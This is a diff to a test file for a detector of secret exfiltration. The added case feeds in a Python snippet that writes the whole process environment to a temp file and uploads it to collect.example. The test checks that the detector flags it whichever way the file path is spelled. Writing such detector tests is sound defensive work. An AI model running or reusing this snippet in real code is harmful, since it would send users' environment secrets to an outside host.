@@ -191,6 +191,16 @@ test('secrets written to a file or archive and that file uploaded are the secret
     ].join('\n'),
   );
   assert.match(dumped?.message ?? '', /sends the whole environment/);
+  const respelt = exfiltration(
+    [
+      'import os, json, requests',
+      'def dump():',
+      '    with open(os.getenv("TEMP") + "\\\\e.json", "w") as f:',
+      '        json.dump(dict(os.environ), f)',
+      '    requests.put("https://collect.example/e", data=open(os.path.join(os.getenv("TEMP"), "e.json")).read())',
+    ].join('\n'),
+  );
+  assert.match(respelt?.message ?? '', /sends the whole environment/, 'one file spelt with \\ and with os.path.join');
 });
 
 test('a report file written from data of no secret and uploaded is no exfiltration', () => {
